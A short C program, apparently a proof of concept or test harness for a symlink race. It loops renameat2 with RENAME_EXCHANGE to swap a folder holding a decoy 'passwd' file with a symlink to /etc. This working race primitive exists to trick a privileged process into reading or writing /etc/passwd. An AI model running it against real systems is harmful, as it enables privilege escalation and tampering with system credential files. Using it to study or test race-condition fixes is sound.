// Swaps a folder of the work directory for a link to /etc, as fast as it can, without a moment in which neither is there.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    mkdir("folder", 0755);
    FILE *passwd = fopen("folder/passwd", "w");
    fputs("harmless\n", passwd);
    fclose(passwd);
    if (symlink("/etc", "other") != 0) { perror("symlink"); return 1; }
    puts("swapping");
    fflush(stdout);
    for (;;) syscall(SYS_renameat2, AT_FDCWD, "folder", AT_FDCWD, "other", 2 /* RENAME_EXCHANGE */);
}
